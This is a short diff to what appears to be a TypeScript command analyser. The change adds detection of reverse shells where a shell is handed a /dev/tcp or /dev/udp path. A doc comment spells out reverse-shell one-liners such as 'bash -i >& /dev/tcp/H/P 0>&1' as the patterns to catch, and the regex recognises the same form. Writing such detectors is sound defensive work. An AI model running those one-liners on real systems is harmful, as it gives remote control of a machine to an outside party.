@@ -70,6 +70,15 @@ function devices(command: Command): readonly Device[] {
 /** `bash -i >& /dev/tcp/H/P 0>&1`, and `exec 5<>/dev/tcp/H/P; sh <&5 >&5`, `while read l <&5; do $l >&5; done`. */
 function deviceShell(command: Command, line: CommandLine): NetworkShell | undefined {
   const [device] = devices(command);
+  // `bash -i /dev/tcp/H/P`: what is left of the line where its redirection was lost.
+  const operand =
+    readsCommands(command) || shellCall(command.args).file
+      ? command.args.find((arg) => /^\/dev\/(?:tcp|udp)\/[^/]+\/\d/.test(arg))
+      : undefined;
+  if (operand && isShell(command.name)) {
+    const [, , , host = "", port] = operand.split("/", 5);
+    return { kind: "reverse", reason: `a shell is given ${operand}`, host, port: Number(port) || undefined };
+  }
   if (!device) return undefined;
   const reverse: NetworkShell = {
     kind: "reverse",
